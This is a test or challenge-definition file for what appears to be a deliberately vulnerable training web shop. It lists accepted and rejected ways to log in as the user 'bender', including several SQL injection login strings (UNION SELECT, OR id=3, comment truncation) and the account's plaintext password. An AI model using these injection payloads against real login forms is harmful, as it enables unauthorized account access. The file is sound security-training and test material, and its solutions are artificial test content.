import { defineWays } from '#range/define.ts'
import { logInBy, resetPassword } from '#range/errands.ts'

export default defineWays({
  otherWays: {
    'the row, selected once more': (visitor) => logInBy(visitor, "' UNION SELECT * FROM Users WHERE id=3--"),
    'a pattern in place of his address': (visitor) => logInBy(visitor, "' OR email LIKE 'bender%'--"),
    'the number of his row': (visitor) => logInBy(visitor, "' OR id=3--"),
    'a blank behind the comment': async (visitor) => logInBy(visitor, `bender@${await visitor.domain()}' -- `),
    'a password that he got new': async (visitor) => {
      const email = `bender@${await visitor.domain()}`
      await resetPassword(visitor, email, "Stop'n'Drop")
      await visitor.login(email, 'squeeze-me')
    },
    'the real password': async (visitor) =>
      visitor.login(`bender@${await visitor.domain()}`, 'OhG0dPlease1nsertLiquor!'),
  },
  mishaps: {
    'a made-up row that borrows the number': [
      200,
      (visitor) =>
        logInBy(
          visitor,
          "' UNION SELECT 3,'','nobody@example.org','x','customer','','','','',1,'2020-01-01','2020-01-01',NULL--",
        ),
    ],
    'a wrong password': [401, async (visitor) => visitor.login(`bender@${await visitor.domain()}`, 'x')],
    'an address that is half covered up': [401, (visitor) => visitor.login('***nder@juice-sh.op', 'x')],
    'a comment without a quote before it': [
      401,
      async (visitor) => logInBy(visitor, `bender@${await visitor.domain()}--`),
    ],
    'somebody else’s session': [200, (visitor) => visitor.login('demo', 'demo')],
    'the injection in the wrong field': [
      401,
      async (visitor) => visitor.login(`bender@${await visitor.domain()}`, "' OR 1=1--"),
    ],
  },
  companions: ['resetPasswordBenderChallenge'],
})
